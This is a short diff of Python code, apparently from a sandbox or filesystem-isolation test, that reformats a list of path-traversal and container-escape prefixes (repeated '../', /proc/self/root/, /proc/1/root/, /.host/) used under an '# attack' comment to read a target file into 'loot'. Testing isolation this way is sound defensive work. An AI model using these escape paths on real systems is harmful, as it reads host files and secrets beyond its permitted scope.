@@ -14,7 +14,14 @@ open("a/b/../x.txt").read() == "mine"
 # attack
 loot = []
 target = places["open_file"].lstrip("/")
-for base in ("../" * 30, "/workspace/" + "../" * 30, "/proc/self/root/", "/proc/1/root/", "/.host/", "/tmp/../../../.host/"):
+for base in (
+    "../" * 30,
+    "/workspace/" + "../" * 30,
+    "/proc/self/root/",
+    "/proc/1/root/",
+    "/.host/",
+    "/tmp/../../../.host/",
+):
     try:
         loot.append(open(base + target).read())
     except OSError as error:
